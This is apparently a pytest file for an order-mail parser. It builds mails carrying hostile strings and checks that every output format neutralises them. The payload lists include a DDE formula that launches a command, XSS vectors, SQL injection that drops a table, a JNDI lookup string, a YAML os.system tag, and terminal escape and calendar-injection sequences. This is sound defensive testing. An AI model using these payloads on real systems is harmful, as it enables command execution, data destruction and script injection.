"""What mails can put into names, subjects and items must not act in any output: formulas, escapes, scripts, statements, lines.

Each family is a list of texts; a mail is built of each, always the same, with the text in its subject, the name of its
sender, its items and its markup.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import unicodedata
from base64 import b64encode
from html import escape
from typing import TYPE_CHECKING

import icalendar
import pyarrow.parquet as pq
import pytest
from selectolax.lexbor import LexborHTMLParser

import orderparse
from orderparse.mail.copies import key_of
from orderparse.outputs import (
    card,
    csv_table,
    explain,
    json_array,
    jsonl,
    jsonld,
    parquet,
    report,
    sqlite_schema,
    table,
)
from orderparse.outputs import (
    icalendar as calendar,
)
from orderparse.outputs.sqlite_store import Store

if TYPE_CHECKING:
    from pathlib import Path

FAMILIES = {
    "out_csv": [
        "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", '=HYPERLINK("http://x.example","a")', '"=1+1"\n=2', "=cmd|' /C calc'!A0",
        " =1;=2", "\ufeff=1+1", "\u200b=1+1", "－2+3", "\u00a0=1+1",
    ],
    "out_term": [
        "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;bHM=\x07", "\x1bP1$r0m\x1b\\",
        "\x9b31mC1", "\x9d0;title\x9c", "over\rwritten", "back\x08\x08\x08", "del\x7f", "\u202egnp.exe", "\u2066iso\u2069", "\x1bc", "\x00nul", "\x0e\x0f",
        "[red]markup[/red]", ":smile:",
    ],
    "out_html": [
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "' onmouseover='alert(1)", "</script><script>1",
        "<svg/onload=alert(1)>", "<!--", "]]>", "&lt;script&gt;", "</title><base href=//x.example>", "<style>@import 'http://x.example'</style>",
    ],
    "out_sql": ["'; DROP TABLE orders; --", '" OR 1=1 --', "\x00", "\udc80\ud800", "x', 1); ATTACH 'a.db' AS a; --", "%_[]", "NULL", "0x41"],
    "out_json": ['"}\n{"a": 1', "\\u0000", "\u2028line\u2029", "\x85next", "NaN", "Infinity", "\\", "\ud83d", "{{0.__class__}}", "%s%n", "${jndi:ldap://x.example}"],
    "out_lines": ["a\nERROR fake", "!!python/object:os.system", "[x](http://x.example)", "BEGIN:VEVENT\r\nSUMMARY:x", "x\r\nEND:VCALENDAR", "a;b,c:d", "TZ=x"],
    "out_long": ["lamp " * 5_000, "é" * 20_000, "=" * 20_000],
}  # fmt: skip
TEXTS = [(f"{family}_{place}", text) for family, texts in FAMILIES.items() for place, text in enumerate(texts)]
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
_LONG = 2000  # characters that the longest text of a mail may have anywhere
_UTF8 = "surrogatepass"


def word(text: str) -> str:
    data = text.encode("utf-8", _UTF8)
    return "\n ".join(f"=?utf-8?b?{b64encode(data[at : at + 45]).decode()}?=" for at in range(0, len(data), 45))


def built(place: int, text: str) -> bytes:
    """A mail of an order with the text wherever a shop may write."""
    product = {"@type": "Product", "name": text}
    order = {
        "@context": "http://schema.org", "@type": "Order", "orderNumber": f"7731{place:04}", "merchant": {"@type": "Organization", "name": text},
        "acceptedOffer": {"@type": "Offer", "itemOffered": product, "price": "12.00", "priceCurrency": "EUR"}, "orderUrl": text,
    }  # fmt: skip
    delivery = {
        "@context": "http://schema.org", "@type": "ParcelDelivery", "trackingNumber": "RB123456785SE", "trackingUrl": text,
        "carrier": {"@type": "Organization", "name": text}, "expectedArrivalUntil": "2026-03-05", "partOfOrder": order,
    }  # fmt: skip
    data = json.dumps([order, delivery]).replace("</", "<\\/")
    return (
        f"Message-ID: <{place}@kajutan.example>\nDate: Sun, 1 Mar 2026 12:00:00 +0100\nContent-Type: text/html; charset=utf-8\n"
        f"From: {word(text)} <order@kajutan.example>\nSubject: {word('Your order is on its way ' + text)}\n\n"
        f"<html><body><p>Your order has been shipped.</p><p>Order number: 7731{place:04}</p>"
        "<p>Tracking number: RB123456785SE</p><p>Expected delivery: 5 March 2026</p>"
        f"<table><tr><th>Item</th><th>Qty</th><th>Price</th></tr><tr><td>{escape(text)}</td><td>1</td><td>12.00 EUR</td></tr></table>"
        f"<p>Payment method: {escape(text)}</p><script type='application/ld+json'>{data}</script></body></html>\n"
    ).encode("utf-8", _UTF8)


MAILS = [built(place, text) for place, (_, text) in enumerate(TEXTS)]


@pytest.fixture(scope="module")
def readings():
    return [orderparse.parse(mail) for mail in MAILS]


@pytest.fixture(scope="module")
def orders(readings):
    return orderparse.consolidate(readings)


def written(write, *args, **named):
    file = io.StringIO()
    write(*args, file, **named)
    return file.getvalue()


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


def test_every_hostile_mail_gives_its_order_and_its_parcel(readings):
    assert len(MAILS) >= 70
    for place, reading in enumerate(readings):
        assert reading.status == "ok"
        assert f"7731{place:04}" in {number.value for number in reading.order_numbers}, TEXTS[place]
        assert "RB123456785SE" in {number.value for number in reading.tracking_numbers}, TEXTS[place]


@pytest.mark.parametrize("form", ["readings", "orders", "parcels"])
def test_no_cell_of_a_table_for_spreadsheets_is_a_formula(form, readings, orders):
    write = {"readings": csv_table.write_readings, "orders": csv_table.write_orders, "parcels": csv_table.write_parcels}[form]
    text = written(write, readings if form == "readings" else orders)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    assert len(rows) > len(readings if form != "parcels" else [1])
    for cell in (cell for row in rows for cell in row if not re.fullmatch(r"-?\d+(\.\d+)?", cell)):
        assert not unicodedata.normalize("NFKC", cell).lstrip().startswith(("=", "+", "-", "@")), ascii(cell[:50])
        assert not _CONTROLS.search(cell)
        assert "\n" not in cell
        assert "\t" not in cell
        assert len(cell) < _LONG


@pytest.mark.parametrize("form", ["readings", "orders", "parcels", "card", "explain"])
def test_what_is_shown_holds_no_control_character(form, readings, orders):
    if form in {"card", "explain"}:
        shown = "".join(written(card.write if form == "card" else explain.write, reading, width=120) for reading in readings[::4])
    else:
        write = {"readings": table.write_readings, "orders": table.write_orders, "parcels": table.write_parcels}[form]
        shown = written(write, readings if form == "readings" else orders, width=120)
    assert shown.strip()
    assert not _CONTROLS.search(shown), ascii(_CONTROLS.search(shown))


@pytest.mark.parametrize("form", ["jsonl_readings", "jsonl_orders", "jsonl_parcels", "json", "jsonld"])
def test_a_record_is_a_line_of_strict_json(form, readings, orders):
    writes = {
        "jsonl_readings": lambda file: jsonl.write(readings, file),
        "jsonl_orders": lambda file: jsonl.write(orders, file),
        "jsonl_parcels": lambda file: jsonl.write_parcels(orders, file),
        "json": lambda file: json_array.write(readings, file),
        "jsonld": lambda file: jsonld.write(orders, file),
    }
    text = written(writes[form])
    text.encode("utf-8")  # no half of a character
    assert not _CONTROLS.search(text)

    def never(name):
        raise AssertionError(name)

    if form == "json":
        records = json.loads(text, parse_constant=never)
        assert len(records) == len(readings)
    elif form == "jsonld":  # one document, a thing a line
        records = json.loads(text, parse_constant=never)["@graph"]
        assert len(records) >= len(orders)
    else:
        records = [json.loads(line, parse_constant=never) for line in text.splitlines()]
        assert len(records) == len({"jsonl_readings": readings, "jsonl_orders": orders}.get(form, records))
    assert max(len(found) for record in records for found in strings(record)) < _LONG


def test_the_report_runs_nothing_and_loads_nothing(readings, orders):
    page = LexborHTMLParser(written(report.write, orders, readings))
    plain = LexborHTMLParser(written(report.write, [], []))
    scripts = [node.attributes.get("type") for node in page.css("script")]
    assert scripts.count(None) == 1  # the page's own, which its policy names by its hash
    assert set(scripts) <= {None, "application/json"}
    assert len(page.css("style")) == len(plain.css("style")) == 1
    assert page.css_first("style").text() == plain.css_first("style").text()
    assert not page.css("base, iframe, object, embed, link, img, video, audio, frame")
    (policy,) = (node.attributes["content"] for node in page.css('meta[http-equiv="Content-Security-Policy"]'))
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    for node in page.css("*"):
        for name, value in node.attributes.items():
            assert not name.startswith("on"), name
            assert name not in {"src", "srcset", "style", "srcdoc", "formaction", "action", "ping"}
            if name == "href":
                assert re.match(r"(https://|#|\Z)", value or ""), value
                if value.startswith("https://"):
                    assert {"noopener", "noreferrer"} <= set((node.attributes.get("rel") or "").split())
    assert not _CONTROLS.search(page.html.replace("\r", ""))


def test_a_store_takes_any_text_by_parameters(readings, orders, tmp_path):
    with Store(tmp_path / "x.sqlite") as store:
        for mail, reading in zip(MAILS, readings, strict=True):
            store.add(key_of(mail), reading)
        store.put_orders(orders)
    with sqlite3.connect(tmp_path / "x.sqlite") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT count(*) FROM mails").fetchone() == (len(MAILS),)
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert tables == set(re.findall(r"CREATE TABLE (\w+)", "\n".join(sqlite_schema.STATEMENTS)))
    db.close()
    assert [path.name for path in tmp_path.iterdir()] == ["x.sqlite"]


def test_a_calendar_has_the_events_that_it_should_and_no_others(readings, orders):
    text = written(calendar.write, orders, readings=readings)
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert not _CONTROLS.search(text.replace("\r\n", "\n"))
    found = icalendar.Calendar.from_ical(text)
    assert [event.name for event in found.walk()].count("VEVENT") == len(list(found.walk())) - 1
    assert all(
        set(event) <= {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "LOCATION", "URL", "TRANSP"}
        for event in found.walk("VEVENT")
    )


def test_parquet_takes_any_text(readings, orders, tmp_path: Path):
    parquet.write_readings(readings, tmp_path / "mails.parquet")
    parquet.write_orders(orders, tmp_path / "orders.parquet")
    mails = pq.read_table(tmp_path / "mails.parquet").to_pylist()
    assert len(mails) == len(readings)
    assert len(pq.read_table(tmp_path / "orders.parquet")) == len(orders)
    for found in strings(json.loads(json.dumps(mails, default=str))):
        found.encode("utf-8")


def test_what_is_cut_is_told(readings):
    for (name, _), reading in zip(TEXTS, readings, strict=True):
        assert ("field_cut" in {defect.code for defect in reading.defects}) == name.startswith("out_long"), name
